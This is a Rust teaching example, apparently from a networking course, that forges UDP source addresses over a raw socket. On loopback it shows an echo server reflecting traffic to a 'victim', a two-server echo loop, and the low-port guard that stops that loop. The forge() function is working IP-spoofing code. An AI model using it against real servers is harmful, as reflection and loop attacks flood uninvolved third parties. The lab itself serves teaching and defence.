//! `reflect`: what a UDP echo server does for someone who forges a source address (Linux).
//!
//! Usage: `reflect` (no arguments). It needs a raw socket (CAP_NET_RAW), so run it as root
//! in a network namespace of its own (no real root needed where user namespaces are
//! enabled):
//!
//! ```text
//! cargo build -p ch03-examples
//! unshare -rn sh -c 'ip link set lo up && target/debug/reflect'
//! ```
//!
//! UDP has no handshake, so nothing checks that a datagram's source address belongs to
//! whoever sent it. With a raw socket a program writes the IP and UDP headers itself, source
//! address included. An echo server answers the address it reads there: a forged source
//! makes it send its answer to a third party, the victim (reflection). Forge the address of
//! another echo server, and the two answer each other for ever. The last part shows the
//! guard old inetd echo services use: ignore datagrams from ports below 1024, where other
//! services (echo itself, DNS, NTP) live.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use ch03_examples::{Args, no_arguments, show};
use socket2::{Domain, Protocol, Socket, Type};

const ABOUT: &str =
    "Forges a datagram's source address to make an echo server reflect it (needs CAP_NET_RAW).";

/// The echo service's well-known port (RFC 862).
const ECHO_PORT: u16 = 7;

fn main() -> ExitCode {
    match no_arguments("reflect", ABOUT) {
        Args::Run => {}
        Args::Help => return ExitCode::SUCCESS,
        Args::Bad(code) => return code,
    }
    let raw = match raw_socket() {
        Ok(raw) => raw,
        Err(e) => {
            eprintln!(
                "reflect: cannot open a raw socket ({e}); it needs CAP_NET_RAW. Try:\n  \
                 unshare -rn sh -c 'ip link set lo up && target/debug/reflect'"
            );
            return ExitCode::FAILURE;
        }
    };
    match reflection(&raw)
        .and_then(|()| echo_loop(&raw, false))
        .and_then(|()| echo_loop(&raw, true))
    {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("reflect: {e}");
            ExitCode::FAILURE
        }
    }
}

/// A raw socket with IPPROTO_RAW: whatever we send is a whole IP packet, headers included.
fn raw_socket() -> io::Result<Socket> {
    Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
}

// ANCHOR: forge
/// Sends one UDP datagram whose IP header says it comes from `from`, whoever we are.
fn forge(raw: &Socket, from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> io::Result<()> {
    let udp_len = 8 + payload.len() as u16;
    let mut packet = vec![
        0x45, 0, 0, 0, // IPv4, 20-byte header; total length: the kernel fills it in
        0, 0, 0, 0, // identification, flags, fragment offset
        64, 17, 0, 0, // TTL, protocol 17 (UDP), header checksum: the kernel fills it in
    ];
    packet.extend(from.ip().octets()); // the source address: anything we like
    packet.extend(to.ip().octets());
    packet.extend(from.port().to_be_bytes());
    packet.extend(to.port().to_be_bytes());
    packet.extend(udp_len.to_be_bytes());
    packet.extend([0, 0]); // UDP checksum 0: none, which IPv4 allows (RFC 768)
    packet.extend(payload);
    raw.send_to(&packet, &SocketAddr::from(to).into())?;
    Ok(())
}
// ANCHOR_END: forge

/// An echo server on `addr` in a thread of its own, like lab 3's, counting what it echoes.
/// With `guard`, it ignores datagrams from ports below 1024.
struct Echo {
    addr: SocketAddrV4,
    echoed: Arc<AtomicU64>,
    ignored: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
    thread: thread::JoinHandle<()>,
}

impl Echo {
    fn start(ip: Ipv4Addr, guard: bool) -> io::Result<Echo> {
        let addr = SocketAddrV4::new(ip, ECHO_PORT);
        let socket = UdpSocket::bind(addr)?;
        socket.set_read_timeout(Some(Duration::from_millis(50)))?;
        let (echoed, ignored) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let (echoed, ignored, stop) = (echoed.clone(), ignored.clone(), stop.clone());
            thread::spawn(move || echo(&socket, guard, &echoed, &ignored, &stop))
        };
        Ok(Echo {
            addr,
            echoed,
            ignored,
            stop,
            thread,
        })
    }

    /// Tells the server to stop; `join` waits for it.
    fn halt(&self) {
        self.stop.store(true, Ordering::Relaxed);
    }

    /// Stops the server; returns (echoed, ignored).
    fn join(self) -> (u64, u64) {
        self.halt();
        let _ = self.thread.join();
        (
            self.echoed.load(Ordering::Relaxed),
            self.ignored.load(Ordering::Relaxed),
        )
    }
}

// ANCHOR: echo
/// Lab 3's echo loop, with the optional guard.
fn echo(
    socket: &UdpSocket,
    guard: bool,
    echoed: &AtomicU64,
    ignored: &AtomicU64,
    stop: &AtomicBool,
) {
    let mut buf = vec![0u8; 64 * 1024];
    while !stop.load(Ordering::Relaxed) {
        // A timeout (the socket has one) comes back here to look at `stop`; any other
        // error concerns one datagram, not the server.
        let Ok((n, from)) = socket.recv_from(&mut buf) else {
            continue;
        };
        // The guard: a datagram "from" a privileged port claims to come from another
        // service (echo, DNS, NTP...). Answering it can start a loop between two services.
        if guard && from.port() < 1024 {
            ignored.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        if socket.send_to(&buf[..n], from).is_ok() {
            echoed.fetch_add(1, Ordering::Relaxed);
        }
    }
}
// ANCHOR_END: echo

/// A forged datagram makes the echo server answer a victim that never asked.
fn reflection(raw: &Socket) -> io::Result<()> {
    let server = Echo::start(Ipv4Addr::new(127, 0, 0, 1), false)?;
    let victim = UdpSocket::bind("127.0.0.2:0")?;
    victim.set_read_timeout(Some(Duration::from_secs(1)))?;
    let victim_addr = match victim.local_addr()? {
        SocketAddr::V4(a) => a,
        SocketAddr::V6(_) => unreachable!("bound to an IPv4 address"),
    };
    println!("reflection:");
    println!("  echo server at {}, victim at {victim_addr}", server.addr);
    forge(raw, victim_addr, server.addr, b"who asked?")?;
    println!(
        "  attacker: sent {} to {}, source forged as {victim_addr}",
        show(b"who asked?"),
        server.addr
    );
    let mut buf = [0u8; 64];
    match victim.recv_from(&mut buf) {
        Ok((n, from)) => println!(
            "  victim: received {} from {from}, an answer to a question it never sent",
            show(&buf[..n])
        ),
        Err(e) => println!("  victim: received nothing ({e})"),
    }
    server.join();
    Ok(())
}

/// A forged datagram between two echo servers: they answer each other until stopped.
fn echo_loop(raw: &Socket, guard: bool) -> io::Result<()> {
    let a = Echo::start(Ipv4Addr::new(127, 0, 0, 1), guard)?;
    let b = Echo::start(Ipv4Addr::new(127, 0, 0, 3), guard)?;
    if guard {
        println!("the same, with servers that ignore source ports below 1024:");
    } else {
        println!("a loop:");
    }
    forge(raw, a.addr, b.addr, b"ping")?;
    println!(
        "  attacker: sent one datagram to {}, source forged as {}",
        b.addr, a.addr
    );
    thread::sleep(Duration::from_secs(1));
    let (a_addr, b_addr) = (a.addr, b.addr);
    a.halt();
    b.halt();
    let (a_echoed, a_ignored) = a.join();
    let (b_echoed, b_ignored) = b.join();
    println!("  one second later: {a_addr} echoed {a_echoed}, ignored {a_ignored}");
    println!("                    {b_addr} echoed {b_echoed}, ignored {b_ignored}");
    Ok(())
}
